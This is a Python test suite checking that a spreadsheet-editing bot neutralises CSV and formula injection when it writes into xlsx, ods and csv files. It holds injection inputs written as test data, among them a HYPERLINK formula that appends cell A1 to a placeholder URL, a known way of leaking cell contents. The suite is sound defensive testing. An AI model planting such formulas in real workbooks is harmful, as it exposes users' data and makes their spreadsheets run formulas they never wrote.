"""No text of another's making runs as a formula: in a copy it is a text, in a csv it is listed."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from workbooks import a_workbook, an_ods

from bot.formula import begins_formula, defused, may_run
from bot.model import Cell, Severity
from bot.workbook.annotate import Labels, annotate
from bot.workbook.read import read_sheet
from bot.workbook.writeback import ALTERED, UNSAFE, Filled, Listing, write_back

RUN = [
    "=1+1", "+33 1", "-5", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "－1", "＋1", "＠x",
    "a;=1+1", 'a,"=1+1', "a\n=1+1", "a\t@x", "a|-2", '"=1+1"', "  =1+1",
]  # fmt: skip
QUIET = ["", "a=b", "1+1", "a@b.c", "https://a.example/?b=1", "l’été - l’hiver", "5 - 3"]
FORMULA = '=HYPERLINK("https://a.example/"&A1;"ici")'


def filled(text: str, sheet: str = "") -> Filled:
    return Filled(sheet, "B2", text, text, f"={text}")


def listing(_: object) -> Listing:
    return Listing("=Liste", ["=Cellule", "@Avant"], [["+1", FORMULA]])


@pytest.mark.parametrize("text", RUN)
def test_what_a_program_would_run_is_known(text: str) -> None:
    assert may_run(text)
    shown = defused(text)
    assert not may_run(shown.replace("'", "x"))
    assert shown.replace("'", "") == text


@pytest.mark.parametrize("text", QUIET)
def test_what_no_program_runs_stays_as_it_is(text: str) -> None:
    assert not may_run(text)
    assert defused(text) == text


@given(text=st.text("=+-@;,|\t\r\n\"' ax1", max_size=12), separator=st.sampled_from(";,\t|"))
def test_no_cell_of_a_csv_runs_whatever_separates_them(text: str, separator: str) -> None:
    """A program that takes another separator, and so no quotes, finds no formula either."""
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow(["x", defused(text), "x"])
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        lines = io.StringIO(written.getvalue(), newline="")
        rows = list(csv.reader(lines, delimiter=separator, quoting=quoting))
        cells = [cell.lstrip(' "') for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("text", RUN)
def test_an_xlsx_copy_holds_it_as_a_text_that_stays_one(tmp_path: Path, text: str) -> None:
    path = a_workbook(tmp_path / "p.xlsx", [["ID", "Titre"], ["P-1", "Quais"]])
    out = tmp_path / "copie.xlsx"
    assert write_back(path, [filled(text, "Projets")], out, listing) == {}
    cells = [cell for tab in load_workbook(out) for row in tab.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    again = load_workbook(out)["Projets"]["B2"]
    assert again.quotePrefix == begins_formula(text)
    assert again.value.replace("_x000D_", "\r") == text or "\r" in text


@pytest.mark.parametrize("text", RUN)
def test_an_ods_copy_holds_it_as_a_text(tmp_path: Path, text: str) -> None:
    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = f"<table:table-row>{cell}{cell}</table:table-row>"
    path, out = an_ods(tmp_path / "p.ods", ("Un", row * 2)), tmp_path / "copie.ods"
    assert write_back(path, [filled(text, "Un")], out, listing) == {}
    with ZipFile(out) as archive:
        content = archive.read("content.xml")
    assert b"table:formula" not in content
    kinds = {
        value
        for node in ET.fromstring(content).iter()  # noqa: S314 - our own
        for name, value in node.items()
        if name.endswith("}value-type")
    }
    assert kinds == {"string"}


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
@pytest.mark.parametrize("text", RUN)
def test_a_csv_copy_does_not_hold_it(tmp_path: Path, text: str, suffix: str) -> None:
    path, out = tmp_path / f"p{suffix}", tmp_path / f"copie{suffix}"
    tab = "\t" if suffix == ".tsv" else ";"
    path.write_text(f"ID{tab}Titre\nP-1{tab}Quais\nP-2{tab}Danse\n", encoding="utf-8")
    cell, other = filled(text), Filled("", "B3", "Ports", "Ports", "")
    assert write_back(path, [cell, other], out) == {cell: UNSAFE}
    assert out.read_text(encoding="utf-8") == path.read_text(encoding="utf-8").replace(
        "Danse", "Ports"
    )


def test_a_csv_copy_that_would_be_read_otherwise_says_so(tmp_path: Path) -> None:
    path, out = tmp_path / "p.csv", tmp_path / "copie.csv"
    path.write_text("ID;Titre\nP-1;Quais\n", encoding="utf-8")
    cells = [filled("un\rdeux"), filled("=1")]
    reasons = write_back(path, cells, out)
    assert set(reasons.values()) <= {ALTERED, UNSAFE}
    assert reasons[cells[1]] == UNSAFE
    if not out.exists():
        assert reasons[cells[0]] == ALTERED


def test_a_marked_copy_of_a_csv_runs_nothing(tmp_path: Path) -> None:
    path = tmp_path / "=1.csv"
    path.write_text(f"ID;Titre\n@P-1;{FORMULA.replace(';', ',')}\n", encoding="utf-8")
    where = Cell(path.name, "", "B2")
    problems: list[tuple[Cell | None, Severity, str, str]] = [(where, "error", FORMULA, "=2")]
    out = annotate(path, problems, tmp_path / "copie.xlsx", Labels.spoken_by(str), {"": 1})
    cells = [cell for tab in load_workbook(out) for row in tab.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert read_sheet(out).rows[1][0] == "@P-1"
